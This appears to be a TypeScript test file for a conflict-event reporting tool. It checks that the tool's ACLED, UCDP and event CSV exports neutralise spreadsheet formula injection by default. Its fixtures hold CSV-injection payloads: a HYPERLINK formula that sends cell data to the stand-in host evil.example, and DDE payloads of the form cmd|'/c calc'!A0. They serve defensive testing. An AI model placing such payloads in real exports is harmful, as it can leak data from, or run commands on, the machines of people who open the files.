// Spreadsheet formulas in CSV exports: a text cell starting with = + - @ TAB or CR is neutralised with a
// leading ' (OWASP, "CSV Injection"); numbers, negative ones included, never are; --raw-csv / csv=raw
// write text as stored. Checked on the writer, then on the ACLED, UCDP and `sitrep events` CSVs of a
// store whose outlet, title, actors and place carry formulas, through the CLI and the API.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { csvField, parseCsv } from './csv.js';
import { ACLED_COLUMNS } from './acled.js';
import { UCDP_COLUMNS } from './ucdp.js';
import { openStore } from '../store/index.js';
import type { Store } from '../store/store.js';
import { storeArticle } from '../ingest/store-article.js';
import { createApp } from '../server/app.js';
import { storeBackend } from '../server/store-backend.js';
import { article, result } from '../../test/helpers/build.js';
import { runCli } from '../../test/helpers/cli.js';

test('the writer: text cells that a spreadsheet would run are neutralised, numbers never', () => {
  const cases: [Parameters<typeof csvField>[0], string, string][] = [
    // value                         safe (default)                  raw
    ['=HYPERLINK("http://x")',       `"'=HYPERLINK(""http://x"")"`, '"=HYPERLINK(""http://x"")"'],
    ['+1+1',                         "'+1+1",                        '+1+1'],
    ['-2+3',                         "'-2+3",                        '-2+3'],
    ['@SUM(A1)',                     "'@SUM(A1)",                    '@SUM(A1)'],
    ['\t=1',                         "'\t=1",                        '\t=1'],
    ['\r=1',                         `"'\r=1"`,                      '"\r=1"'],
    ['=cmd|\' /C calc\'!A0',         "'=cmd|' /C calc'!A0",          "=cmd|' /C calc'!A0"],
    ['a;=1+1',                       '"a;=1+1"',                     '"a;=1+1"'], // semicolon locales split here: quoted
    ['Kyiv Post',                    'Kyiv Post',                    'Kyiv Post'],
    ['a = b',                        'a = b',                        'a = b'],
    [' =1',                          ' =1',                          ' =1'],
    ['',                             '',                             ''],
    [-33.9,                          '-33.9',                        '-33.9'],
    [-0.5,                           '-0.5',                         '-0.5'],
    [0,                              '0',                            '0'],
    [Infinity,                       '',                             ''],
    [null,                           '',                             ''],
  ];
  for (const [v, safe, raw] of cases) {
    assert.equal(csvField(v), safe, `safe ${JSON.stringify(v)}`);
    assert.equal(csvField(v, { raw: true }), raw, `raw ${JSON.stringify(v)}`);
  }
});

let store: Store;
let db: string;
const HOSTILE = {
  outlet: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  title: '+cmd|\'/c calc\'!A0',
  actor1: '@SUM(1+1)*cmd|\'/c calc\'!A0',
  actor2: '-2+3+cmd|\'/c calc\'!A0',
  place: '=1+1',
};

before(async () => {
  db = join(mkdtempSync(join(tmpdir(), 'sitrep-csv-')), 'csv.db');
  const opened = openStore(db);
  if (!opened.ok) throw new Error(opened.message);
  store = opened.value;
  // A battle west of Greenwich and south of the equator: negative latitude and longitude.
  const a = article('hostile', 'Fighters clashed on the coast road outside the port town on Thursday, residents said, and two combatants died.', {
    outlet: HOSTILE.outlet, title: HOSTILE.title, published: '2024-05-03',
  });
  const r = result('hostile', [{ type: 'Battles', sub: 'Armed clash', date: '2024-05-02', actor1: HOSTILE.actor1, actor2: HOSTILE.actor2, dead: 2,
    place: { name: HOSTILE.place, lat: -33.9249, lon: -18.4241, country: 'ZA' }, claims: [{ source: 'residents', kind: 'witness' }] }]);
  await store.transaction(() => storeArticle(store, a, r));
});
after(() => store.close());

function cells(csv: string, columns: readonly string[]): Record<string, string> {
  const rows = parseCsv(csv);
  assert.deepEqual(rows[0], [...columns]);
  assert.equal(rows.length, 2, csv);
  return Object.fromEntries(columns.map((c, i) => [c, rows[1][i]]));
}

/** Every text cell of a row: none starts as a formula. */
function assertNoFormula(row: Record<string, string>, where: string): void {
  for (const [k, v] of Object.entries(row)) assert.doesNotMatch(v, /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/, `${where} ${k}: ${v}`);
}

test('sitrep export --format acled|ucdp and events --format csv neutralise formulas, keep negative coordinates, and --raw-csv writes them as stored', async () => {
  const acled = cells((await runCli(['export', '--format', 'acled', '--db', db])).stdout, ACLED_COLUMNS);
  assertNoFormula(acled, 'acled');
  assert.equal(acled.actor1, `'${HOSTILE.actor1}`);
  assert.equal(acled.actor2, `'${HOSTILE.actor2}`);
  assert.equal(acled.location, `'${HOSTILE.place}`);
  assert.equal(acled.source, `'${HOSTILE.outlet}`);
  assert.equal(acled.latitude, '-33.9249');
  assert.equal(acled.longitude, '-18.4241');
  assert.match(acled.notes, /^On 2 May 2024/);

  const ucdp = cells((await runCli(['export', '--format', 'ucdp', '--db', db])).stdout, UCDP_COLUMNS);
  assertNoFormula(ucdp, 'ucdp');
  assert.equal(ucdp.side_a, `'${HOSTILE.actor1}`);
  assert.equal(ucdp.source_office, `'${HOSTILE.outlet}`);
  assert.equal(ucdp.source_headline, `'${HOSTILE.title}`);
  assert.equal(ucdp.longitude, '-18.4241');
  assert.equal(ucdp.geom_wkt, 'POINT (-18.4241 -33.9249)');

  const { EVENT_CSV_COLUMNS } = await import('../cli/events.js');
  const events = cells((await runCli(['events', '--format', 'csv', '--db', db])).stdout, EVENT_CSV_COLUMNS);
  assertNoFormula(events, 'events');
  assert.equal(events.longitude, '-18.4241');

  const raw = cells((await runCli(['export', '--format', 'acled', '--raw-csv', '--db', db])).stdout, ACLED_COLUMNS);
  assert.equal(raw.actor1, HOSTILE.actor1);
  assert.equal(raw.source, HOSTILE.outlet);
  assert.equal(cells((await runCli(['events', '--format', 'csv', '--raw-csv', '--db', db])).stdout, EVENT_CSV_COLUMNS).actor2, HOSTILE.actor2);
});

test('GET /api/export neutralises formulas in CSV by default; csv=raw writes them as stored', async () => {
  const app = createApp({ backend: storeBackend(store), webRoot: '/nonexistent' });
  for (const format of ['acled', 'ucdp'] as const) {
    const columns = format === 'acled' ? ACLED_COLUMNS : UCDP_COLUMNS;
    const safe = cells(await (await app.request(`/api/export?format=${format}`)).text(), columns);
    assertNoFormula(safe, format);
    const raw = cells(await (await app.request(`/api/export?format=${format}&csv=raw`)).text(), columns);
    assert.equal(raw[format === 'acled' ? 'actor1' : 'side_a'], HOSTILE.actor1);
  }
  assert.equal((await app.request('/api/export?format=acled&csv=yes')).status, 400);
});
